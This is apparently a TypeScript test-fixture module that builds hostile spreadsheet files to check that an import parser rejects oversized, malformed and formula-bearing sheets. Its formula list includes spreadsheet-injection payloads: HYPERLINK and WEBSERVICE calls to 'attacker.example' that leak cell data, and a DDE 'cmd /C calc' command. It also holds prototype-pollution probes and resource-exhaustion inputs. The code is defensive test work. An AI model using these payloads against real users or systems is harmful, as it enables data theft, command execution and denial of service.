import type { HostileKind, Random } from './hostile-kind.ts';
import { defineRejectedFile, defineRejectedRows } from './hostile-kind.ts';
import { toCells, buildGoodLines, headers } from './lines.ts';
import {
  buildSheetXml,
  buildStringsXml,
  stylesXml,
  buildTextRows,
  buildWorkbook,
  buildWorkbookParts,
  buildZip,
} from './workbook.ts';

const rows = buildTextRows([headers, ...buildGoodLines(5).map(toCells)]);
const buildCell = (address: string, text: string) => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;

const toColumnLetters = (column: number): string =>
  column === 0 ? '' : toColumnLetters(Math.floor((column - 1) / 26)) + String.fromCharCode(65 + ((column - 1) % 26));

const repeat = (count: number, build: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => build(index)).join('');

const createLongSharedString = (length: number) => ({ strings: buildStringsXml(['x'.repeat(length)]) });
const sharedCell = '<c t="s"><v>0</v></c>';

const buildSheetFile = (xml: string) => buildZip(buildWorkbookParts({ sheets: [{ name: 'Returns', xml }] }));

/** Builds a sheet of valid rows and a ninth row with these cells. */
const buildWithNinthRow = (cells: string) => buildWorkbook(`${rows}<row r="9">${cells}</row>`);

const pickFormula = (random: Random) =>
  random.pick([
    'HYPERLINK("http://attacker.example/?"&amp;A1,"x")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://attacker.example")',
    'CONCATENATE("XKW",ROW())',
    "'[other.xlsx]Sheet1'!$A$1",
    'A2',
  ]);

/** Sheets that are oversized, contain invalid references, or are not sheets. */
export const hostileSheets: readonly HostileKind[] = [
  defineRejectedFile('16,384 non-empty columns', 'ReturnsFileWrongHeaders', (random) =>
    buildWorkbook(
      `<row r="1">${repeat(16_384, (index) => buildCell(`${toColumnLetters(index + 1)}1`, String(random.nextInt(10))))}</row>`,
    ),
  ),
  defineRejectedFile('one far-right cell and no lines', 'FileEmpty', (random) =>
    buildWorkbook(
      `${buildTextRows([headers])}<row r="1048576">${buildCell(`${random.pick(['XFD', 'ZZZ', 'DDD', 'AAA'])}1048576`, 'x')}</row>`,
    ),
  ),
  defineRejectedFile('too many rows', 'FileTooLarge', (random) =>
    buildWorkbook(
      repeat(
        10_002 + random.nextInt(20_000),
        (index) => `<row r="${index + 1}">${buildCell(`A${index + 1}`, 'x')}</row>`,
      ),
    ),
  ),
  defineRejectedFile('too many cells', 'FileTooLarge', (random) =>
    buildWorkbook(repeat(1300 + random.nextInt(500), () => `<row>${'<c><v>1</v></c>'.repeat(100)}</row>`)),
  ),
  defineRejectedFile('descending or invalid row numbers', 'FileDamaged', (random) =>
    buildWorkbook(
      `${rows}<row r="${random.pick(['3', '0', '-7', '1e3', 'x', 'NaN', '1.5', '99999999999999999999'])}">${buildCell('A3', 'x')}</row>`,
    ),
  ),
  defineRejectedFile('descending or invalid cell addresses', 'FileDamaged', (random) =>
    buildWithNinthRow(
      `${buildCell('B9', 'x')}${buildCell(random.pick(['A9', 'B9', '9', 'ÄÖ9', 'b9', '$C$9', 'ABCD9', '']), 'x')}`,
    ),
  ),
  defineRejectedFile('missing shared strings', 'FileDamaged', (random) =>
    buildWorkbook(
      `${rows}<row r="9"><c r="A9" t="s"><v>${random.pick(['1', '-1', '4294967296', 'x', '0.5', '__proto__'])}</v></c></row>`,
      { strings: buildStringsXml(['x']) },
    ),
  ),
  defineRejectedFile('invalid numbers', 'FileDamaged', (random) =>
    buildWithNinthRow(`<c r="A9"><v>${random.pick(['1e999', 'NaN', 'x', '1,5', '--1', '#N/A'])}</v></c>`),
  ),
  defineRejectedFile('an unknown cell type', 'FileDamaged', (random) =>
    buildWithNinthRow(`<c r="A9" t="${random.pick(['z', '__proto__', 'constructor', 'S'])}"><v>1</v></c>`),
  ),
  defineRejectedFile('everything merged', ['ReturnsFileWrongHeaders', 'ReturnsFileOtherStore'], (random) =>
    buildWorkbook(rows, {
      after: `<mergeCells><mergeCell ref="A1:${random.pick(['XFD1048576', 'F1048576', 'A9999999', 'ZZZ200000'])}"/></mergeCells>`,
    }),
  ),
  defineRejectedRows('merged ranges with reversed corners', 'serialNumberMalformed', (random) => {
    const lines = buildTextRows([
      headers,
      ...buildGoodLines(20).map((line) => toCells({ ...line, serialNumber: '?' })),
    ]);
    return buildWorkbook(lines, {
      after: `<mergeCells>${repeat(1 + random.nextInt(5), () => `<mergeCell ref="${random.pick(['B2:A9000', 'F9000:A2', 'A9000:F2', 'F2:E1048576', 'CW2:XFD9000'])}"/>`)}</mergeCells>`,
    });
  }),
  // The shared string is stored once; each cell contains only its index.
  defineRejectedRows('one 1 MB shared string in every row', 'tooLong', (random) => {
    const lines = buildTextRows([
      headers,
      ...buildGoodLines(300 + random.nextInt(700)).map((line) => toCells({ ...line, productDescription: '' })),
    ]);
    return buildWorkbook(
      lines.replaceAll(/<c (r="D(?!1")\d+").*?<\/c>/g, '<c $1 t="s"><v>0</v></c>'),
      createLongSharedString(1_000_000 + random.nextInt(48_000)),
    );
  }),
  defineRejectedFile('one shared string in too many cells', 'FileTooLarge', (random) =>
    buildWorkbook(
      `${buildTextRows([headers])}${repeat(300 + random.nextInt(100), () => `<row>${sharedCell.repeat(100)}</row>`)}`,
      createLongSharedString(500 + random.nextInt(500)),
    ),
  ),
  defineRejectedFile('one text merged over too many cells', 'FileTooLarge', (random) => {
    const filledRows = repeat(
      1000,
      (index) =>
        `<row r="${index + 2}">${buildCell(`A${index + 2}`, 'x'.repeat(index === 0 ? 900 + random.nextInt(100) : 1))}</row>`,
    );
    return buildWorkbook(`${buildTextRows([headers])}${filledRows}`, {
      after: '<mergeCells><mergeCell ref="A2:CV1001"/></mergeCells>',
    });
  }),
  defineRejectedFile('thousands of merged ranges', 'FileTooLarge', (random) =>
    buildWorkbook(rows, {
      after: `<mergeCells>${repeat(10_001 + random.nextInt(5000), (index) => `<mergeCell ref="A${index + 10}:B${index + 10}"/>`)}</mergeCells>`,
    }),
  ),
  defineRejectedFile('deeply nested elements', 'FileDamaged', (random) =>
    buildSheetFile(buildSheetXml(`${rows}<row r="9">${'<x>'.repeat(50_000 + random.nextInt(100_000))}</row>`)),
  ),
  defineRejectedFile('unclosed tags', 'FileDamaged', (random) =>
    buildSheetFile(buildSheetXml(rows).slice(0, 500 + random.nextInt(1500))),
  ),
  defineRejectedFile('mismatched or repeated end tags', 'FileDamaged', (random) =>
    buildSheetFile(
      buildSheetXml(`${rows}${random.pick(['</row>', '</sheetData></sheetData>', '<c></row>', '<row', '<v>&'])}`),
    ),
  ),
  defineRejectedFile('a sheet part without a sheet', 'FileDamaged', (random) =>
    buildSheetFile(random.pick(['', 'x', '<html/>', '<worksheet/>', '{"a":1}', '\0\0\0'])),
  ),
  defineRejectedFile('invalid UTF-8', 'FileDamaged', (random) =>
    buildZip(
      buildWorkbookParts({ sheets: [{ name: 'Returns', xml: buildSheetXml(rows) }] }).map((part) =>
        part.name.endsWith('sheet1.xml')
          ? {
              ...part,
              content: Buffer.concat([
                Buffer.from(String(part.content)),
                Buffer.from([0xc0, 0x80, 0xff, random.nextInt(256)]),
              ]),
            }
          : part,
      ),
    ),
  ),
  defineRejectedFile('an empty sheet', 'FileEmpty', (random) =>
    buildWorkbook(
      random.pick([
        '',
        '<row r="1"/>',
        '<row r="1"><c r="A1" s="1"/></row>',
        repeat(3000, (index) => `<row r="${index + 1}" ht="15"/>`),
      ]),
    ),
  ),
  defineRejectedFile('invalid styles', 'FileDamaged', (random) =>
    buildWorkbook(rows, { styles: random.pick(['x', '<styleSheet>', `${stylesXml}<x/>`, '']) }),
  ),
  defineRejectedRows('formulas for codes', 'formula', (random) => {
    const column = random.pick(['C', 'F']);
    const lines = buildTextRows([headers, ...buildGoodLines(20).map(toCells)]);
    return buildWorkbook(
      lines.replaceAll(
        new RegExp(`<c r="${column}((?!1")\\d+)" t="inlineStr"><is><t [^>]*>([^<]*)</t></is></c>`, 'g'),
        (_, row: string, text: string) =>
          `<c r="${column}${row}" t="str"><f>${pickFormula(random)}</f><v>${text}</v></c>`,
      ),
    );
  }),
  defineRejectedRows('errors for codes', 'errorValue', (random) => {
    const lines = buildTextRows([headers, ...buildGoodLines(20).map(toCells)]);
    return buildWorkbook(
      lines.replaceAll(
        /<c r="C((?!1")\d+)" t="inlineStr">.*?<\/c>/g,
        (_, row: string) => `<c r="C${row}" t="e"><v>${random.pick(['#N/A', '#REF!', '#VALUE!', '#DIV/0!'])}</v></c>`,
      ),
    );
  }),
];
